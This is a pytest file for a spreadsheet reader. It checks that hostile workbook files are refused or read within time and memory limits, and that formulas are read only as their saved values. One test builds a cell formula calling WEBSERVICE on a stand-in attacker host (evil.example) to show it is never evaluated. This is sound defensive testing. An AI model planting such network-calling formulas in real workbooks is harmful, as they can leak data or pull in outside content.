"""Hostile files cost neither time nor memory: each in a process of its own, at most 2 seconds and 200 MB."""

import os
import subprocess
import sys
from pathlib import Path

import pytest
import xlsxwriter

from terugkom.workbook.file_formats.read_tables import read_tables
from tests.workbook.hostile_files import HOSTILE_FILES, HostileFile
from tests.workbook.old_excel import write_xls

_READ = """
import resource, sys
from pathlib import Path
from terugkom.errors import InputError
from terugkom.workbook.file_formats.read_tables import read_tables
used = lambda who: sum(resource.getrusage(who)[:2])
started = used(resource.RUSAGE_SELF)
try:
    found = len(read_tables(Path(sys.argv[1])))
except InputError as error:
    found = f"refused: {error}"
seconds = used(resource.RUSAGE_SELF) - started + used(resource.RUSAGE_CHILDREN)
own = next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith("VmHWM"))
both = own + resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss  # of itself it would count pytest's
print(seconds, both * 1024, found, sep="|")
"""
_COMMAND_BYTES = 90_000_000  # what a command takes beside these 15 MB of a process that only reads
_RARE = pytest.mark.soak_only  # of a kind that another one shows more often


def _mark(number: int, hostile: HostileFile) -> list[pytest.MarkDecorator]:
    return [_RARE] if hostile.is_rare else [] if number % 6 == 0 else [pytest.mark.long]


@pytest.mark.long
@pytest.mark.parametrize(
    "hostile",
    [
        pytest.param(each, id=f"{each.name}: {each.label}", marks=_mark(number, each))
        for number, each in enumerate(HOSTILE_FILES)
    ],
)
@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="this system tells no peak of memory")
def test_a_hostile_file_costs_at_most_two_seconds_and_200_mb(tmp_path: Path, hostile: HostileFile) -> None:
    path = tmp_path / hostile.name
    hostile.make(path)

    done = subprocess.run(
        [sys.executable, "-c", _READ, str(path)], capture_output=True, text=True, check=True
    )

    seconds, size, found = done.stdout.split("|", 2)
    assert found.startswith(f"refused: {hostile.name}") == hostile.refused, found
    assert len(found) < 600
    assert float(seconds) < 2
    assert float(size) < 200_000_000 - _COMMAND_BYTES


def test_formulas_and_links_are_read_as_what_was_saved_in_them(tmp_path: Path) -> None:
    with xlsxwriter.Workbook(tmp_path / "plan.xlsx") as book:
        page = book.add_worksheet("Plan")
        page.write_row(0, 0, ["Titel", "Budget"])
        page.write_formula(1, 0, '=WEBSERVICE("http://evil.example/")', None, "Zon op het dak")
        page.write_formula(1, 1, "='[other.xlsx]Blad1'!A1", None, 1200)

    (table,) = read_tables(tmp_path / "plan.xlsx")

    assert table.rows[1] == ["Zon op het dak", 1200.0]


def test_the_process_that_reads_a_file_imports_nothing_of_the_plan_or_the_database() -> None:
    """Each file has a process of its own; with the model it took seven times as long."""
    program = "import sys; import terugkom.workbook.file_formats.reader_process; print(*sys.modules)"
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True)
    loaded = set(done.stdout.split())
    assert "python_calamine" in loaded
    assert not loaded & {"sqlalchemy", "holidays", "dateutil", "terugkom.plan", "terugkom.documents"}


def test_a_file_over_which_its_reader_stumbles_is_refused_at_once_where_rust_tells_how(
    tmp_path: Path,
) -> None:
    path = tmp_path / "plan.xls"
    write_xls(path, "Plan", [["Actie", "Trekker"], *([f"Dak {at} isoleren", "An"] for at in range(60))])
    path.write_bytes(path.read_bytes()[:1400])  # in the middle of its list of streams

    done = subprocess.run(
        [sys.executable, "-c", _READ, str(path)],
        capture_output=True,
        text=True,
        check=True,
        env=os.environ | {"RUST_BACKTRACE": "1"},
        timeout=30,
    )

    assert "refused: plan.xls: not a readable workbook, or cut short" in done.stdout
